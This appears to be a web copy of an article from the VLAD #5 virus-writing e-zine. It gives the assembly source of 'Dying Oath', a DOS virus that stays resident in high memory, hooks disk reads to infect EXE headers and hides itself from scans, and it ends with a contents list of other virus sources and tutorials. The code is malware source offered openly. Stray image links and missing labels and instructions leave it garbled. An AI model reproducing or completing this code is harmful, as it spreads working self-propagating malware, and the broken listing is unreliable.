Virus Labs & Distribution
VLAD #5 - Dying Oath

;                   d y i n g . o a t h . b y . r e t r o
;                                265 bytes
;  This is a EXE header virus that goes resident in the HMA, when i13 is
; hooked the vector isnt changed, but the address of the original i13
; (stored on bootup) is changed and that gets called instead.
;  On the first run it will install itself, build a parameter block then
; re-execute the file. Now, because the virus is resident the file will be
; cleaned upon execution. The virus will then get the errorlevel returned
; and exit with the errorlevel...;  Removing this virus from an EXE file is easy: boot from a clean disk then
; replace the EB at the start of the EXE file with a 'M'...its that easy!
; Note: When this file is compiled (with a86) it will look exactly like an
; already infected file. Just rename the BIN to a EXE and run the file. The
; file should say 'VIRUS!#@' when executed.
;  The virus scans under one flag (the 'N' flag) when not resident, when
; the virus is resident it is full stealth so there are no flags.
        org     0
        jmp     short AfterHeader       ;Jump to our code.

LastPageSize    dw      0030h           ;this is all the header shit...
FileSizeInPages dw      0002h
NumberOfEntries dw      0000h
SizeOfHeader    dw      0020h
MinimumMemParas dw      0000h
MaximumMemParas dw      0FFFFh
InitialSS       dw      0002h
InitialSP       dw      0010h
NegativeChksum  dw      0F9A1h
InitialIP       dw      0000h
InitialCS       dw      0000h
OffsOfRelocTbl  dw      001Eh
OverlayNumber   dw      0000h
                dw      0001h
                db      3Eh dup (0)     ;fill up the space with zeros
        mov     ah,0Dh                  ;flush disk buffers
        int     21h

        mov     ax,4A02h                ;allocate some memory from HMA
        mov     bx,offset EndOfVirus
        int     2Fh

        inc     di                      ;DI = FFFFh if no HMA
        jnz     NoWorries
        mov     al,1                    ;if error we cant execute old file..
        jmp     ExitWithErrorlevel      ; just exit with errorlevel=1
        dec     di                      ;set di back to how it was
        mov     [NewOffs+100h],di

        ; The above line is needed because when you allocate HMA the pointer
        ;to the allocated block is never the its sorta like getting
        ;the offset at the start of a COM virus
        push    di                      ;save di for later

        movsi,100h                 ;start copying from 100h
        mov     cx,offset EndOfVirus
        rep movsb                       ;copy the virus up

        pop     di                      ;restore di

        mov     ax,70h
        mov     ds,ax
        mov     si,0B4h
        add     di,offset OldInt
        mov     [si-4],di
        mov     [si-2],es

        ; The original i13 is stored at 0070:00B4 and it has been there since
        ;dos 3.3, so qark & kd inform me. The handler is straight after the
        ;storage area for the old i13, so we save some code there

        push    cs                      ;cs=ds
        pop     dsmov     es,[2Ch]                ;set ES = segment of the environment
        xor     di,di                   ;zero di
        mov     ax,di                   ;put zero in ax aswell
        cld;we want to go left-right in mem
        inc     di
        dec     di                      ;this just searches for two zeros
        jne     Search
        scasw                           ;Filename = the two zeros + a word

        push    es
        push    cs
        pop     es
        pop     dsmov     ah,4Ah                          ;resize mem block
        mov     bx,(offset EndOfVirus+10Fh)/10h
        int     21h
        shl     bx,4
        mov     sp,bx                           ;set sp at end of our mem

        push    ds                      ;save the pointers
        push    di

        ; Now we have to set up a parameter block coz we are going to execute
        ;the file so it will be cleaned on read...

        push    cs
        pop     ds

        mov     cx,3mov     si,offset ParameterTable+100h
        mov     bx,offset ParameterBlock+100h
        lea     di,[bx+2]
        mov     ax,cs
        loop    MakeParameterBlock

        pop     dx                              ;DS:DX=ES:DI=offset of fname
        pop     ds

        mov     ax,4B00h
        int     21h

        mov     ah,4Dh                          ;get the errorlevel returned
        int     21h
        mov     ah,4Ch                          ;go and exit with it
        int     21h
        db      '[Dying_Oath] by Retro'

ParameterTable  db      80h,5Ch,6Ch
        db      0EAh                            ;opcode of JMP ssss:oooo
OldInt  dd      0

        cmp     ah,2                            ;disk read ?
        jne     Exit

        push    si                              ;save that SI!

        ; We need the MOV SI,xxxx becoz we aint never in the same part of mem
        db      0BEh
NewOffs dw      0

        pushf                                   ;call the old i13
        call    dword ptr cs:[si+OldInt]
        jc      ReturnFar                       ;if carry, bail out

        push    ds                              ;save some registers

        push    cs                              ;cs=ds
        popds

        mov     ax,es:[bx]                      ;check out the first 2 bytes
        xor     ax,'ZM'                         ;anti-TBSCAN code!
        je      Infect
        cmp     byte ptr es:[bx],0EBh           ;see if already infected
        jne     PopAllReturnFlags
        cmp     word ptr es:[bx+AfterHeader],0DB4h
        je      StealthIt
        jmp     PopAllReturnFlags
        cmp     word ptr es:[bx+4],65024/512    ;make sure file aint to big
        ja      PopAllReturnFlags

        add     si,offset AfterHeader
        lea     di,[bx+AfterHeader]
        xor     ax,ax
        mov     cx,offset EndOfVirus-offset AfterHeader
        rep scasb                               ;make sure there is spacejne     PopAllReturnFlags
        ;DontMoveVirusIn                 ;if there aint, well erm...

        rep movsb                               ;move the virus in!

        mov     byte ptres:[bx],0EBh           ;put the jump in
        popf                                    ;get the original registers

        mov     ax,301h
        pushf                                   ;rewrite the sectors
        call    dword ptr [si+OldInt]
        mov     byte ptr es:[bx],'M'            ;put the 'M' back

        ; Now we fill the space that our virus sits in with zeros...
        lea     di,[bx+AfterHeader]
        xor     ax,ax
        mov     cx,offset EndOfVirus-offset AfterHeader
        rep stosb
        popf                                    ;restore flags
        popa                                    ;restore some registers
        pop     ds
        pop     si                              ;restore si
        retf    2                               ;iret but dont change flags
        db      0Bh dup (0)                     ;leave room for the params

; the rest of this shit is the original file sorta, it just sez 'VIRUS!#@'

        org     200h
        push    cs                              ;original file starts at 200h
        pop     ds                              ;cs=ds
        mov     dx,0Eh
        mov     ah,9                            ;display our funkee text
        int     21h
        mov     ax,4C00h                        ;and exitint     21h
        db      'VIRUS!#@$'
        db      19h dup 0                       ;this is the stack...



ARTICLE.1_2       Aims and Policies
ARTICLE.1_3       Greets
ARTICLE.1_4       Members/Joining
ARTICLE.1_5       Dist/Contact Info
ARTICLE.1_6       Hidden Area Info
ARTICLE.1_7       Coding the Mag


ARTICLE.2_2       Neuroquila disasm
ARTICLE.2_3       Uruguay#3 disasm
ARTICLE.2_4       Immortal Riot
ARTICLE.2_5       Fog.doc
ARTICLE.2_6       Fog.asm
ARTICLE.2_7       AP-Poly


Dying Oath
ARTICLE.3_2       Win API tutorial
ARTICLE.3_3       Poly primer
ARTICLE.3_4       NoMut v0.01
ARTICLE.3_5       Demon3b
ARTICLE.3_6       SDFEe20 sourceARTICLE.3_7       ZL 2.0 source


Virus Descriptions
ARTICLE.4_2       Horsa
ARTICLE.4_3       Ph33rARTICLE.4_4       Wintiny
ARTICLE.4_5       Midnight
ARTICLE.4_6       Arme Stoevlar
ARTICLE.4_7       Small Virus


ARTICLE.5_2       Winlamer2
ARTICLE.5_3       Lady Death
ARTICLE.5_4       H8urNMEs
ARTICLE.5_5       SepbootARTICLE.5_6       Fame
ARTICLE.5_7Int Patch

About VLAD- Links - Contact Us - Main